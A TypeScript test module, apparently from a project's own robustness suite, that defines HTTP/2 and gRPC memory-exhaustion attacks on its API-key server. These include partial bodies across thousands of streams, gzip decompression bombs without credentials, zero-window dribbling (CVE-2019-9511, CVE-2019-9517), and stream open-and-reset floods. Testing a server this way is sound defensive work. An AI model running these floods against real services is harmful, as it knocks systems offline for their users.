import { gzipSync } from 'node:zlib';
import { FLAG, FRAME, SETTING } from '../../src/transport/http2/frames.ts';
import {
  type Attack,
  type Attacker,
  frame,
  get,
  grpc,
  odd,
  post,
  REVOKE_OWN,
  SETTINGS,
  settings,
  uint32,
  VALIDATE,
} from './attack.ts';

const { END_STREAM, END_HEADERS } = FLAG;
const headersOf = (block: Buffer, streams: number, flags: number = END_HEADERS) =>
  Buffer.concat(Array.from({ length: streams }, (_, i) => frame(FRAME.HEADERS, flags, odd(i), block)));
const mebibyte = Buffer.alloc(1 << 20, ' ');
const packed = gzipSync(mebibyte);
const grpcFrame = (flag: number, claimed: number, bytes: Uint8Array) =>
  Buffer.concat([Buffer.from([flag]), uint32(claimed), bytes]);
const jsonCall = (path: string) => post(path, ['content-type', 'application/json']);
const openapi = get('/openapi.json');
const WINDOW_0 = settings([SETTING.INITIAL_WINDOW_SIZE, 0]);

/** So many streams of each connection; each of them is sent the same data. */
async function fill(
  a: Attacker,
  connections: number,
  block: Buffer,
  data: readonly Buffer[],
  end = false,
): Promise<void> {
  await a.many(connections, async () => {
    const socket = await a.openHttp2();
    await a.send(socket, headersOf(block, 100));
    for (const [at, part] of data.entries()) {
      const flags = end && at === data.length - 1 ? END_STREAM : 0;
      for (let i = 0; i < 100; i++)
        if (!(await a.send(socket, frame(FRAME.DATA, flags, odd(i), part)))) return;
    }
  });
}

/** What is never whole, never taken, or larger than it was. */
export const memoryAttacks: Attack[] = [
  {
    name: 'begins 42 × 100 calls of RevokeOwnKey and sends no body',
    run: (a) => fill(a, 42, jsonCall(REVOKE_OWN), []),
  },
  {
    name: 'sends all but the last byte of 1 MiB on 6 000 streams',
    run: (a) =>
      fill(a, 60, grpc(REVOKE_OWN), [
        grpcFrame(0, 1 << 20, mebibyte.subarray(0, 16_000)),
        ...Array.from({ length: 64 }, () => mebibyte.subarray(0, 16_000)),
      ]),
  },
  {
    name: 'sends most of 1 MiB of JSON on 6 000 streams',
    run: (a) =>
      fill(
        a,
        60,
        jsonCall(REVOKE_OWN),
        Array.from({ length: 64 }, () => mebibyte.subarray(0, 16_000)),
      ),
  },
  {
    name: 'claims 1 MiB with five bytes on 10 000 streams',
    run: (a) => fill(a, 100, grpc(REVOKE_OWN), [grpcFrame(0, 1 << 20, Buffer.alloc(0))]),
  },
  {
    name: 'claims 1 MiB with five bytes and resets, again and again',
    run: (a) =>
      a.flood((i) =>
        Buffer.concat([
          frame(FRAME.HEADERS, END_HEADERS, odd(i), grpc(REVOKE_OWN)),
          frame(FRAME.DATA, 0, odd(i), grpcFrame(0, 1 << 20, Buffer.alloc(0))),
          frame(FRAME.WINDOW_UPDATE, 0, odd(i), uint32(0)),
        ]),
      ),
  },
  {
    name: 'sends one byte of a body between frames of 16 KiB',
    run: async (a) => {
      const noise = frame(0x77, 0, 0, Buffer.alloc(16_000));
      await a.many(20, async () => {
        const socket = await a.openHttp2();
        await a.send(socket, headersOf(jsonCall(REVOKE_OWN), 100));
        for (let i = 0; i < 4_000; i++)
          if (
            !(await a.send(
              socket,
              Buffer.concat([
                frame(FRAME.DATA, 0, odd(i % 100), Buffer.from(' ')),
                noise,
                noise,
                noise,
                noise,
              ]),
            ))
          )
            return;
      });
    },
  },
  {
    name: 'sends 1 MiB in a kilobyte of gzip, without a credential',
    run: (a) =>
      fill(a, 100, grpc(REVOKE_OWN, ['grpc-encoding', 'gzip']), [grpcFrame(1, packed.length, packed)], true),
  },
  {
    name: 'sends gzip and makes the server reset the stream',
    run: (a) => {
      const block = grpc(VALIDATE, ['grpc-encoding', 'gzip']);
      return a.flood((i) =>
        Buffer.concat([
          frame(FRAME.HEADERS, END_HEADERS, odd(i), block),
          frame(FRAME.DATA, END_STREAM, odd(i), grpcFrame(1, packed.length, packed)),
          frame(FRAME.WINDOW_UPDATE, 0, odd(i), uint32(0)),
        ]),
      );
    },
  },
  {
    name: 'sends gzip of JSON, without a credential',
    run: (a) =>
      fill(
        a,
        50,
        post(REVOKE_OWN, ['content-type', 'application/json'], ['content-encoding', 'gzip']),
        [packed],
        true,
      ),
  },
  {
    name: 'asks for a large page on 10 000 streams with no window (dribble)',
    cve: 'CVE-2019-9511',
    run: (a) =>
      a.many(100, async () => {
        const socket = await a.openHttp2(WINDOW_0);
        await a.send(socket, headersOf(openapi, 100, END_HEADERS | END_STREAM));
        for (let i = 0; i < 300; i++)
          if (!(await a.send(socket, frame(FRAME.WINDOW_UPDATE, 0, odd(i % 100), uint32(1))))) return;
      }),
  },
  {
    name: 'asks for a large page, opens all windows and does not read',
    cve: 'CVE-2019-9517',
    run: (a) =>
      a.many(100, async () => {
        const socket = await a.openHttp2(
          Buffer.concat([
            settings([SETTING.INITIAL_WINDOW_SIZE, 2 ** 31 - 1]),
            frame(FRAME.WINDOW_UPDATE, 0, 0, uint32(2 ** 30)),
          ]),
        );
        socket.pause();
        for (let i = 0; i < 20_000; i++)
          if (!(await a.send(socket, frame(FRAME.HEADERS, END_HEADERS | END_STREAM, odd(i), openapi))))
            return;
      }),
  },
  {
    name: 'watches the health on 5 000 streams',
    run: (a) => fill(a, 50, grpc('/grpc.health.v1.Health/Watch'), [grpcFrame(0, 0, Buffer.alloc(0))], true),
  },
  {
    name: 'asks for the health and takes no answer',
    run: (a) =>
      a.flood(
        (i) =>
          Buffer.concat([
            frame(FRAME.HEADERS, END_HEADERS, odd(i), grpc('/grpc.health.v1.Health/Check')),
            frame(FRAME.DATA, END_STREAM, odd(i), grpcFrame(0, 0, Buffer.alloc(0))),
          ]),
        WINDOW_0,
        10,
      ),
  },
  {
    name: 'asks what is served here, and to be told of every file',
    run: (a) =>
      fill(
        a,
        20,
        grpc('/grpc.reflection.v1.ServerReflection/ServerReflectionInfo'),
        Array.from({ length: 20 }, () =>
          grpcFrame(0, 23, Buffer.concat([Buffer.from([0x22, 21]), Buffer.from('apikey.v1.ApiKeyAdmin')])),
        ),
      ),
  },
  {
    name: 'sends a message that is no message, without a credential',
    run: (a) =>
      a.flood((i) =>
        Buffer.concat([
          frame(FRAME.HEADERS, END_HEADERS, odd(i), grpc(VALIDATE)),
          frame(FRAME.DATA, END_STREAM, odd(i), grpcFrame(0, 3, Buffer.from([0x0a, 0xff, 0xff]))),
        ]),
      ),
  },
  {
    name: 'opens 100 streams with half a message on 100 connections and goes',
    run: async (a) => {
      while (a.going) {
        const socket = await a.openHttp2(SETTINGS);
        await a.send(socket, headersOf(jsonCall(VALIDATE), 100));
        socket.destroy();
      }
    },
  },
];
